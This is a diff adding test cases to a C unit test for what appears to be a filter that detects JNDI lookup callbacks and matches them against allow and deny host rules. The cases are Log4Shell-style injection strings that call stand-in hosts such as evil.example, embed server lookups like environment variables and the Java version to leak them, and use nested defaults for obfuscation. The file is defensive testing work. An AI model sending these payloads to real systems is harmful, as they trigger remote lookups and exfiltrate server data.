@@ -576,6 +576,23 @@ static void test_callbacks(void **state)
         {"${ jndi:ldap://a.evil.example/a}", "callback attempt body ldap://a.evil.example/a"},
         {"${jndi:dns://${env:USER}.evil.example}",
          "callback reaches body dns://${env:USER}.evil.example"},
+        /* what only the server knows is no part of the name that is looked up in the list */
+        {"${jndi:ldap://${java:version}.evil.example/a}",
+         "callback reaches body ldap://${java:version}.evil.example/a"},
+        {"${jndi:ldap://${env:NaN:-x.evil.example}/a}",
+         "callback reaches body ldap://${env:NaN:-x.evil.example}/a"},
+        {"${jndi:ldap://${env:NaN:-x.evil.example:389/a}}",
+         "callback reaches body ldap://x.evil.example:389/a"},
+        {"${jndi:ldap://ldap.corp.example/${env:USER}}", "nothing"},
+        {"${jndi:ldap://${ctx:user}@ldap.corp.example/a}",
+         "lookup reaches body ldap://${ctx:user}@ldap.corp.example/a"},
+        {"${jndi:ldap://ldap.corp.example:${ctx:port}/a}",
+         "lookup reaches body ldap://ldap.corp.example:${ctx:port}/a"},
+        {"${jndi:ldap://${env:NaN:-ldap.corp.example}/a}",
+         "lookup reaches body ldap://${env:NaN:-ldap.corp.example}/a"},
+        {"${jndi:ldap://${ctx:user}.ok.example/a}",
+         "lookup reaches body ldap://${ctx:user}.ok.example/a"},
+        {"${jndi:ldap://a.ok.example/a}", "nothing"},
         {"a.evil.example", "nothing"},
         {"${name} a.evil.example", "nothing"},
     };
@@ -583,7 +600,8 @@ static void test_callbacks(void **state)
     (void)state;
     probe_init(&p);
     struct guard_rules *r =
-        rules_of("allow callback ldap.corp.example\ndeny callback *.evil.example\n");
+        rules_of("allow callback ldap.corp.example\nallow callback *.ok.example\n"
+                 "deny callback *.evil.example\n");
     p.rules = r;
     for (size_t i = 0; i < ARRAY_LEN(cases); i++)
         body_is(&p, "text/plain", "", slice_str(cases[i].text), cases[i].want);
